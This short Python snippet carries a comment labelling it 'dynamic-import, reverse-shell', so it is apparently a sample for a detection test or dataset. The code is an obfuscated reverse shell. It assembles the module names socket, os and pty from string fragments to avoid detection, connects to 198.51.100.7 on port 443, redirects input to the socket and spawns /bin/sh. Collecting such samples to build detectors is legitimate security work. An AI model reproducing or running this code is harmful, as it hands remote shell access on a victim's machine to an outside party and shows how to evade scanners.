# must: dynamic-import, reverse-shell
import importlib
so = __import__("so" + "cket")
o = importlib.import_module("".join(["o", "s"]))
s = so.socket(so.AF_INET, so.SOCK_STREAM)
s.connect(("198.51.100.7", 443))
o.dup2(s.fileno(), 0)
__import__("p" + "ty").spawn("/bin/sh")
